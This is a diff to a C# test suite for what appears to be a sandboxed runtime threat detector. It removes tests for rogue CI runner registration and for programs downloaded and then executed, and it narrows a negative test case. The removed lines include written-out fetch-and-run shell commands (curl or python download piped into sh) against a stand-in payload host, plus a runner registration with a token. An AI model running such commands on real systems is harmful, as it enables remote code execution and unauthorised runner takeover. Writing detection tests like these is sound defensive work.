@@ -139,70 +139,6 @@ public sealed class DetectionTests(LabFixture fixture) : KernelTest(fixture), IC
     }
 
     [Theory]
-    [EveryMode]
-    public async Task A_runner_that_the_job_starts_is_found(LabMode mode)
-    {
-        var run = await Lab.RunAsync(mode, Script(
-            "mkdir -p /run/lab/work/other/bin; cp /bin/echo /run/lab/work/other/bin/Runner.Listener",
-            $"/run/lab/work/other/bin/Runner.Listener configure --url https://example.test/o --token {Canary}"));
-        Assert.Equal(0, run.Process.ExitCode);
-        if (mode != LabMode.Off)
-        {
-            var row = AssertFound(run, "rogue-runner", "reported", "Runner.Listener");
-            Assert.Equal("registers a runner", row.Evidence["does"]);
-        }
-    }
-
-    [Theory]
-    [EveryMode(
-        "curl -sS -o FILE URL; sh FILE",
-        "curl -sS -o FILE.part URL; mv FILE.part FILE; sh -e FILE",
-        "curl -sS URL | tee FILE; sh FILE",
-        "sh -c 'curl -sS -o FILE URL; cp /bin/echo FILE.2; curl -sS -o FILE.3 URL; cat FILE.2 > FILE.3; chmod 755 FILE.3; FILE.3 x'",
-        "python3 -c 'import urllib.request; urllib.request.urlretrieve(\"URL\", \"FILE\")'; sh FILE")]
-    public async Task A_program_that_was_fetched_and_is_run_is_found(LabMode mode, string script)
-    {
-        foreach (var folder in (string[])["/tmp", "/dev/shm"])
-        {
-            var file = $"{folder}/dropped-{Guid.NewGuid():N}";
-            var run = await Lab.RunAsync(mode, Script(
-                script.Replace("FILE", file, StringComparison.Ordinal).Replace("URL", "http://v4.test/payload", StringComparison.Ordinal),
-                $"rm -f {file}*") with
-            {
-                Allow = ["v4.test:80"],
-            });
-            Assert.True(run.Traffic.Contains("/payload "), run.ToString());
-            if (mode != LabMode.Off)
-            {
-                var row = AssertFound(run, "dropped-program-run", "reported", null);
-                Assert.StartsWith(file, row.Evidence["program"], StringComparison.Ordinal);
-                Assert.StartsWith(
-                    script.Contains("python3", StringComparison.Ordinal) ? "python3" : "curl",
-                    Path.GetFileName(row.Evidence["downloadedBy"]),
-                    StringComparison.Ordinal);
-            }
-        }
-    }
-
-    [Theory]
-    [InlineData("curl -sS -o FILE URL; cat FILE")]
-    [InlineData("curl -sS -o work-FILE URL; sh work-FILE || true; rm work-FILE")]
-    [InlineData("curl -sS URL; printf 'exit 0' > FILE; sh FILE; echo 'int main(void) { return 0; }' | gcc -x c -o FILE.out -; FILE.out")]
-    [InlineData("cp /bin/true FILE; FILE; rm FILE")]
-    [InlineData("printf 'rm FILE.x' > FILE; touch FILE.x; sh FILE; rm FILE; printf 'echo' > FILE; sh FILE; mv FILE FILE.x; rm FILE.x")]
-    [InlineData("mkdir -p /etc/other; mount -t tmpfs none /etc/other; sleep 0.3; umount /etc/other; rmdir /etc/other")]
-    public async Task What_is_fetched_or_made_or_cleaned_up_is_none(string script)
-    {
-        var file = $"/tmp/made-{Guid.NewGuid():N}";
-        var run = await Lab.RunAsync(LabMode.Audit, Script(
-            "cd /run/lab/work",
-            script.Replace("work-FILE", Path.GetFileName(file), StringComparison.Ordinal).Replace("FILE", file, StringComparison.Ordinal)
-                .Replace("URL", "http://v4.test/payload", StringComparison.Ordinal),
-            $"rm -f {file}*"));
-        Assert.True(run.Process.ExitCode == 0 && run.Report.Findings.Count == 0, run.ToString());
-    }
-
-    [Theory]
     [EveryMode(
         "printf 'rm \"$0\"' > FILE; sh FILE",
         "cp /bin/rm FILE; FILE FILE",
@@ -236,20 +172,14 @@ public sealed class DetectionTests(LabFixture fixture) : KernelTest(fixture), IC
         }
     }
 
-    [Fact]
-    public async Task Files_of_a_runner_that_are_only_looked_at_are_none()
+    [Theory]
+    [InlineData("printf 'rm FILE.x' > FILE; touch FILE.x; sh FILE; rm FILE; printf 'echo' > FILE; sh FILE; mv FILE FILE.x; rm FILE.x")]
+    [InlineData("mkdir -p /etc/other; mount -t tmpfs none /etc/other; sleep 0.3; umount /etc/other; rmdir /etc/other")]
+    public async Task What_is_cleaned_up_and_mounts_elsewhere_are_none(string script)
     {
+        var file = $"/tmp/made-{Guid.NewGuid():N}";
         var run = await Lab.RunAsync(LabMode.Audit, Script(
-            "mkdir -p /run/lab/work/other/bin; cp /bin/echo /run/lab/work/other/bin/Runner.Listener",
-            "ls -l /run/lab/work/other/bin/Runner.Listener; grep -c ELF /run/lab/work/other/bin/Runner.Listener"));
+            "cd /run/lab/work", script.Replace("FILE", file, StringComparison.Ordinal), $"rm -f {file}*"));
         Assert.True(run.Process.ExitCode == 0 && run.Report.Findings.Count == 0, run.ToString());
-    }
-
-    private static ReportedFinding AssertFound(LabRun run, string id, string action, string? exe)
-    {
-        ReportedFinding? row = run.Report.Findings.FirstOrDefault(finding => finding.Id == id && finding.Action == action);
-        Assert.True(row is not null, $"No finding {id} {action}.\n{run}");
-        Assert.True(exe is null || Path.GetFileName(run.Report.ExeOf(row.Process)) == exe, $"By {run.Report.ExeOf(row.Process)}.\n{run}");
-        return row;
     }
 }
